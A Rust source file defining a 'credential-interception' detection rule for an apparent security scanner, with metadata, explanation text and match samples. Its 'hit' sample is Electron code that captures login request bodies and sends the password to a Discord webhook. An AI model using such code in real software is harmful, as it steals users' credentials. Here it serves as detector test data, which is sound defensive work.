//! A program that listens to what is typed or logged in with.

use crate::check::{Check, Context, threats};
use crate::rule::Match;
use crate::value::severity::Severity;
use crate::value::verdict::Action;

/// The check.
pub const CHECK: Check = Check {
    id: "credential-interception",
    category: "exfiltration",
    severity: Severity::High,
    action: Action::Confirm,
    why: "What people type into other programs, passwords first, is read before it is protected.",
    help: "Ask people for what is needed in a form of your own, and leave the windows and keys of others alone.",
    hit: "const { session } = require('electron');\nsession.defaultSession.webRequest.onCompleted({ urls: ['https://example.com/auth/login'] }, (seen) => {\n  const data = JSON.parse(seen.uploadData[0].bytes);\n  tell('https://discord.com/api/webhooks/1/a', data.password);\n});",
    miss: "const { session } = require('electron');\nsession.defaultSession.webRequest.onCompleted({ urls: ['https://example.com/*'] }, (seen) => log(seen.statusCode));",
    run,
};

fn run(context: &Context<'_>) -> Vec<Match> {
    threats(context)
}
